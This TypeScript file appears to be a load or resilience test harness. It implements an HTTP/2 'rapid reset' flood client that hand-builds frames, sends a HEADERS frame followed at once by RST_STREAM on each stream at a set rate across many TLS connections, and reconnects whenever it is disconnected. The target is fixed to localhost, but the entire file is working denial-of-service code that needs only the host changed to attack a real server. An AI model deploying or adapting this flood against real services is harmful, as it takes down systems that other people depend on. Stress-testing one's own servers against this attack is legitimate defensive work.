/**
 * A client that opens requests over HTTP/2 and takes each back at once, as fast as it can, and connects again whenever it is thrown out: `node reset-storm.ts OPTIONS`,
 * with `OPTIONS` a JSON object of `StormOptions`. Writes a line `{"resets": N, "connections": N}` a second until it is ended. A process of its own, so that it takes
 * nothing from those who look on but its share of the machine.
 */
import { connect, type TLSSocket } from "node:tls";

/** Whom to storm, and as who. */
export interface StormOptions {
  readonly port: number;
  readonly cert: string;
  readonly key: string;
  readonly ca: string;
  readonly authority: string;
  readonly path: string;
  readonly connections: number;
  /** Of all connections together. */
  readonly resetsPerSecond: number;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const END = 0x05;
const ACK = 1;
const STEP_MS = 5;

const options = JSON.parse(process.argv[2] ?? "{}") as StormOptions;
const { port, cert, key, ca, authority, path, connections, resetsPerSecond } = options;
let resets = 0;
let connected = 0;

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** HPACK: two fields of the static table, then literals that are not indexed under names 4 (`:path`) and 1 (`:authority`). */
function literal(name: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([name, value.length]), Buffer.from(value)]);
}
const BLOCK = Buffer.concat([Buffer.from([0x82, 0x86]), literal(4, path), literal(1, authority)]);

function storm(): void {
  const socket: TLSSocket = connect({
    host: "127.0.0.1",
    port,
    cert,
    key,
    ca,
    ALPNProtocols: ["h2"],
    checkServerIdentity: () => undefined,
  });
  let stream = 1;
  let timer: NodeJS.Timeout | undefined;
  const share = resetsPerSecond / connections;
  let last = 0;
  let due = 0;
  const send = (): void => {
    const now = performance.now();
    due += ((now - last) / 1000) * share;
    last = now;
    if (socket.writableLength > 1 << 16) due = 0;
    const parts: Buffer[] = [];
    for (; due >= 1; due -= 1) {
      parts.push(frame(HEADERS, END, stream, BLOCK), frame(RST_STREAM, 0, stream, CANCEL));
      stream += 2;
      resets += 1;
    }
    if (parts.length > 0) socket.write(Buffer.concat(parts));
  };
  socket.on("secureConnect", () => {
    connected += 1;
    socket.write(
      Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0)), frame(SETTINGS, ACK, 0, Buffer.alloc(0))]),
    );
    last = performance.now();
    timer = setInterval(send, STEP_MS);
  });
  socket.resume();
  socket.on("error", () => undefined);
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(storm, 10);
  });
}

for (let n = 0; n < connections; n += 1) storm();
setInterval(() => process.stdout.write(`${JSON.stringify({ resets, connections: connected })}\n`), 1_000);
